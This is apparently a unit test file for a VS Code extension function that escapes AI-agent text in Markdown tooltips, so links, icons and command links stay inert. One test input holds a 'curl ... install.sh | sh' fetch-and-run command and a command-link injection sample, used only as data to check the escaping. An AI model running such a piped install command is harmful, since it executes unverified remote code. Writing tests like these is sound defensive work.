// Agent text in Markdown tooltips: every punctuation character escaped, so nothing the agent wrote becomes Markdown,
// a theme icon or a link (the URL autolink patterns are broken by the escapes), and its line breaks are kept.
import assert from 'node:assert/strict';
import { escapeMarkdownText } from '../../../src/vscode/markdownText';

describe('markdownText: agent text in tooltips', () => {
  it('escapes every ASCII punctuation character and nothing else', () => {
    const punctuation = '!"#$%&\'()*+,-./:;<=>?@[\\]^_`{|}~';
    assert.equal(escapeMarkdownText(punctuation), [...punctuation].map((c) => `\\${c}`).join(''));
    assert.equal(escapeMarkdownText('plain words 42 äé'), 'plain words 42 äé');
  });

  it('breaks the autolink patterns: a scheme, www. and an address never stand unescaped', () => {
    const out = escapeMarkdownText('curl https://example.invalid/install.sh | sh; see www.example.invalid or root@host.invalid');
    assert.doesNotMatch(out, /https?:\/\//);
    assert.doesNotMatch(out, /www\./);
    assert.doesNotMatch(out, /[\w]@[\w]/);
    assert.match(out, /https\\:\\\/\\\/example\\\.invalid/);
  });

  it('markup, icons and HTML stay text; line breaks become hard breaks', () => {
    assert.equal(escapeMarkdownText('[x](command:flotilla.stopAll) $(alert) <b>'), '\\[x\\]\\(command\\:flotilla\\.stopAll\\) \\$\\(alert\\) \\<b\\>');
    assert.equal(escapeMarkdownText('one\ntwo\r\nthree'), 'one  \ntwo  \nthree');
  });
});
